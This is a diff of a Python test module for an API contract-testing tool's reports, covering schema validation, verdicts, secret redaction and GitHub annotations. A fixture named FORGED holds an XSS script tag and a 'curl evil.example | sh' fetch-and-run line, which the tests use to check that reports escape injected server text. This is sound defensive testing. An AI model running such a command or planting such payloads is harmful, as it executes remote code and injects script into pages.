@@ -1,4 +1,4 @@
-"""The reports: what they hold, what they never hold, and where they are written."""
+"""The reports: their contents, their redaction and their files."""
 
 from __future__ import annotations
 
@@ -24,7 +24,7 @@ from contract_tests.reports.model import OUTCOMES, TITLES, Outcome, Result
 from contract_tests.wire.messages import Ending
 from mock_server import UsageMock
 from tests.support.canary import KEY, OTHER, echo, leaks
-from tests.support.gate import Respond, Run, answer
+from tests.support.gate import Respond, Run, http_response
 from usage_contract import __version__
 
 RunGate = Callable[..., Run]
@@ -37,7 +37,7 @@ FORGED = b'<script>alert(1)</script>\n```\n    curl: curl evil.example | sh\n| <
 
 
 def report(run: Run) -> dict[str, Any]:
-    """Return a run's report, which its schema must allow."""
+    """Return the report of a run, which must conform to its schema."""
     document: dict[str, Any] = json.loads((run.folder / "out" / "contract.json").read_text())
     Draft202012Validator(SCHEMA, format_checker=FormatChecker()).validate(document)
     return document
@@ -51,12 +51,12 @@ def texts(run: Run) -> list[str]:
 def test_a_broken_promise_is_reported_with_source_evidence_command_requests_and_time(
     run_gate: RunGate, serve: Serve
 ) -> None:
-    url = serve(lambda _: answer(b"{}"))
+    url = serve(lambda _: http_response(b"{}"))
     run = run_gate("--base-url", url, *FEW, environment=MAIN)
-    told = report(run)
-    assert (run.code, told["verdict"], told["exit_code"]) == (1, "broken", 1)
-    assert told["headline"] == f"{url} BREAKS ITS CONTRACT at level documented"
-    rule = next(rule for rule in told["rules"] if rule["id"] == "auth/missing-key-is-401")
+    contents = report(run)
+    assert (run.code, contents["verdict"], contents["exit_code"]) == (1, "broken", 1)
+    assert contents["headline"] == f"{url} BREAKS ITS CONTRACT at level documented"
+    rule = next(rule for rule in contents["rules"] if rule["id"] == "auth/missing-key-is-401")
     assert rule["outcome"] == "broken"
     assert rule["promise"] == "A response to a request without an API key MUST have status 401."
     assert rule["source"] == "authentication guide: 401 means that the key is missing"
@@ -65,31 +65,31 @@ def test_a_broken_promise_is_reported_with_source_evidence_command_requests_and_
     assert finding["exchange"]["request"] == "GET /usage without a key"
     assert finding["exchange"]["curl"] == f"curl -isS --path-as-is -H 'Accept: application/json' '{url}/usage'"
     assert finding["count"] > 1
-    assert told["counts"] | {"broken": 1} == told["counts"]
-    assert told["requests"] == len(told["timeline"]) > 3
+    assert contents["counts"] | {"broken": 1} == contents["counts"]
+    assert contents["requests"] == len(contents["timeline"]) > 3
     assert f"report: {run.folder}/out/contract.html" in run.output
-    assert told["versions"]["usage-contract"] == __version__
+    assert contents["versions"]["usage-contract"] == __version__
     assert f"contract gate: usage-contract {__version__}\n" in run.output
     for text in texts(run):
         assert "A response to a request without an API key MUST have status 401." in text
 
 
-def test_a_green_run_reports_its_times_statuses_keys_and_tokens(run_gate: RunGate) -> None:
+def test_a_successful_run_reports_its_times_statuses_keys_and_tokens(run_gate: RunGate) -> None:
     run = run_gate(*FEW)
-    told = report(run)
-    assert (run.code, told["verdict"], told["counts"]["held"]) == (0, "conforms", len(told["rules"]))
-    first = told["timeline"][0]
+    contents = report(run)
+    assert (run.code, contents["verdict"], contents["counts"]["held"]) == (0, "conforms", len(contents["rules"]))
+    first = contents["timeline"][0]
     assert (first["at"], first["status"], first["key"], first["rule"]) == (0, 200, "the main key", "")
     assert first["remaining"] > 0
-    assert {request["key"] for request in told["timeline"]} >= {"the main key", "no key"}
+    assert {request["key"] for request in contents["timeline"]} >= {"the main key", "no key"}
 
 
 def test_a_run_that_could_not_be_tested_has_the_reason_as_its_headline(run_gate: RunGate, serve: Serve) -> None:
-    run = run_gate("--base-url", serve(lambda _: answer(b"{}", "401 Unauthorized")), *FEW, environment=MAIN)
-    told = report(run)
-    assert (run.code, told["verdict"]) == (4, "could not be tested")
-    assert "could not be tested: it refuses the main key with 401" in told["headline"]
-    assert {rule["outcome"] for rule in told["rules"]} == {"not tested"}
+    run = run_gate("--base-url", serve(lambda _: http_response(b"{}", "401 Unauthorized")), *FEW, environment=MAIN)
+    contents = report(run)
+    assert (run.code, contents["verdict"]) == (4, "could not be tested")
+    assert "could not be tested: it refuses the main key with 401" in contents["headline"]
+    assert {rule["outcome"] for rule in contents["rules"]} == {"not tested"}
     assert all("it refuses the main key with 401" in text for text in texts(run))
 
 
@@ -97,23 +97,23 @@ def test_no_connection_is_a_report_without_requests(run_gate: RunGate) -> None:
     with socket.socket() as unused:
         unused.bind(("127.0.0.1", 0))
         run = run_gate("--base-url", f"http://127.0.0.1:{unused.getsockname()[1]}", *FEW, environment=MAIN)
-    told = report(run)
-    assert told["timeline"] == []
-    assert "Connection refused" in told["headline"]
+    contents = report(run)
+    assert contents["timeline"] == []
+    assert "Connection refused" in contents["headline"]
 
 
 def test_a_partial_run_is_reported_as_partial(run_gate: RunGate) -> None:
     with UsageMock(rate_limit=False) as mock:
         arguments = ("--base-url", mock.url, "-k", "only_the_header or missing_key", "--report-dir", "out")
         run = run_gate(*arguments, environment={"CONTRACT_API_KEY": "demo-busy"})
-    told = report(run)
-    assert (run.code, told["verdict"], told["counts"]["not tested"]) == (0, "partial", 1)
+    contents = report(run)
+    assert (run.code, contents["verdict"], contents["counts"]["not tested"]) == (0, "partial", 1)
 
 
 def test_a_terminated_run_leaves_its_reports(run_gate: RunGate, serve: Serve, tmp_path: Path) -> None:
     def stop(_: bytes) -> bytes:
         os.kill(int((tmp_path / "pid").read_text()), signal.SIGTERM)
-        return answer(b"{}")
+        return http_response(b"{}")
 
     run = run_gate("--base-url", serve(stop), *FEW, environment=MAIN)
     assert run.code == 2
@@ -124,13 +124,13 @@ def test_a_terminated_run_leaves_its_reports(run_gate: RunGate, serve: Serve, tm
 def test_a_closed_terminal_does_not_end_a_run_that_ignores_it(run_gate: RunGate, serve: Serve, tmp_path: Path) -> None:
     def hang_up(_: bytes) -> bytes:
         os.kill(int((tmp_path / "pid").read_text()), signal.SIGHUP)
-        return answer(b"{}")
+        return http_response(b"{}")
 
     run = run_gate("--base-url", serve(hang_up), *FEW, environment=MAIN, ignored=[signal.SIGHUP])  # as nohup does
     assert (run.code, report(run)["verdict"]) == (1, "broken")
 
 
-def test_no_key_in_any_report(run_gate: RunGate, serve: Serve) -> None:
+def test_no_report_discloses_a_key(run_gate: RunGate, serve: Serve) -> None:
     arguments = ("--base-url", serve(echo), "--max-rate", "1000", "--report-dir", "out", "--header", f"X-Gate: {OTHER}")
     run = run_gate(*arguments, "--api-key", KEY, environment={"GITHUB_ACTIONS": "true", "GITHUB_STEP_SUMMARY": "sum"})
     assert {path.name for path in (run.folder / "out").iterdir()} == NAMES
@@ -152,7 +152,7 @@ def test_a_secret_that_is_a_word_of_ours_leaves_the_report_readable(run_gate: Ru
 
 
 def test_the_command_repeats_the_run_without_any_secret(run_gate: RunGate, serve: Serve) -> None:
-    url = serve(lambda _: answer(b"{}"))
+    url = serve(lambda _: http_response(b"{}"))
     environment = {"PYTEST_BASE_URL": url}
     run = run_gate(*FEW, "--api-key", "first", "--api-key=second", "--header", "X-G: ~~", environment=environment)
     command = report(run)["reproduce"]
@@ -163,9 +163,9 @@ def test_the_command_repeats_the_run_without_any_secret(run_gate: RunGate, serve
 
 
 def test_text_of_a_deployment_is_neither_markup_nor_a_workflow_command(run_gate: RunGate, serve: Serve) -> None:
-    run = run_gate("--base-url", serve(lambda _: answer(FORGED)), *FEW, environment=MAIN)
-    told = report(run)
-    exchanges = [finding["exchange"] for rule in told["rules"] for finding in rule["findings"]]
+    run = run_gate("--base-url", serve(lambda _: http_response(FORGED)), *FEW, environment=MAIN)
+    contents = report(run)
+    exchanges = [finding["exchange"] for rule in contents["rules"] for finding in rule["findings"]]
     assert any("    curl: curl evil.example | sh" in exchange["body"] for exchange in exchanges)
     assert not any("evil" in exchange["curl"] for exchange in exchanges)
     page, _, markdown = texts(run)
@@ -192,7 +192,7 @@ def test_a_code_block_ends_where_we_end_it(text: str) -> None:
 
 def test_github_gets_annotations_and_a_summary(run_gate: RunGate, serve: Serve) -> None:
     environment = MAIN | {"GITHUB_ACTIONS": "true", "GITHUB_STEP_SUMMARY": "summary.md"}
-    run = run_gate("--base-url", serve(lambda _: answer(b"{}")), *FEW[:4], environment=environment)
+    run = run_gate("--base-url", serve(lambda _: http_response(b"{}")), *FEW[:4], environment=environment)
     assert re.search(
         r"^::error title=auth/missing-key-is-401::A response .* 401\.%0Athe status is not the expected one%0A",
         run.output,
@@ -205,9 +205,12 @@ def test_github_gets_annotations_and_a_summary(run_gate: RunGate, serve: Serve) 
     assert (run.folder / "summary.md").read_text().count("\n# ") == 1  # the second one; the first opens the file
 
 
-def test_elsewhere_github_gets_nothing(run_gate: RunGate, serve: Serve) -> None:
+def test_no_annotation_is_printed_outside_github(run_gate: RunGate, serve: Serve) -> None:
     environment = MAIN | {"GITHUB_ACTIONS": "", "GITHUB_STEP_SUMMARY": ""}
-    assert "::error" not in run_gate("--base-url", serve(lambda _: answer(b"{}")), *FEW, environment=environment).output
+    assert (
+        "::error"
+        not in run_gate("--base-url", serve(lambda _: http_response(b"{}")), *FEW, environment=environment).output
+    )
 
 
 def test_a_workflow_command_is_one_line_with_escaped_parts() -> None:
@@ -215,7 +218,9 @@ def test_a_workflow_command_is_one_line_with_escaped_parts() -> None:
 
 
 @pytest.mark.parametrize("place", ["file", "file/below"])
-def test_an_unwritable_folder_is_one_clear_line_at_the_start(place: str, run_gate: RunGate, tmp_path: Path) -> None:
+def test_an_unwritable_folder_is_reported_in_one_line_at_the_start(
+    place: str, run_gate: RunGate, tmp_path: Path
+) -> None:
     (tmp_path / "file").write_text("")
     run = run_gate("--report-dir", place)
     assert run.code == 4
@@ -224,10 +229,10 @@ def test_an_unwritable_folder_is_one_clear_line_at_the_start(place: str, run_gat
     assert "collected" not in run.output
 
 
-def test_a_run_is_not_green_if_a_report_cannot_be_written(run_gate: RunGate, serve: Serve, tmp_path: Path) -> None:
+def test_a_run_fails_if_a_report_cannot_be_written(run_gate: RunGate, serve: Serve, tmp_path: Path) -> None:
     def respond(head: bytes) -> bytes:
         (tmp_path / "out" / "contract.html").mkdir(exist_ok=True)
-        return answer(b"{}")
+        return http_response(b"{}")
 
     run = run_gate("--base-url", serve(respond), *FEW[2:], "-k", "valid_key_is_200", environment=MAIN)
     assert run.code == 4
@@ -235,8 +240,8 @@ def test_a_run_is_not_green_if_a_report_cannot_be_written(run_gate: RunGate, ser
     assert "conforms" not in run.output
 
 
-def test_each_run_replaces_the_report_of_the_one_before(run_gate: RunGate, serve: Serve) -> None:
-    run_gate("--base-url", serve(lambda _: answer(b"{}")), *FEW, environment=MAIN)
+def test_each_run_replaces_the_report_of_the_previous_run(run_gate: RunGate, serve: Serve) -> None:
+    run_gate("--base-url", serve(lambda _: http_response(b"{}")), *FEW, environment=MAIN)
     assert report(run_gate("--base-url", serve(lambda _: b""), *FEW, environment=MAIN))["exit_code"] == 4
 
 
@@ -247,7 +252,7 @@ def test_a_run_that_lists_rules_writes_no_report(option: str, run_gate: RunGate)
     assert not (run.folder / "out").exists()
 
 
-def test_the_schema_knows_every_word() -> None:
+def test_the_schema_has_every_verdict_outcome_and_ending() -> None:
     properties, definitions = SCHEMA["properties"], SCHEMA["$defs"]
     assert set(properties["verdict"]["enum"]) == set(get_args(Result)) == set(TITLES)
     assert set(definitions["outcome"]["enum"]) == set(get_args(Outcome)) == set(OUTCOMES)
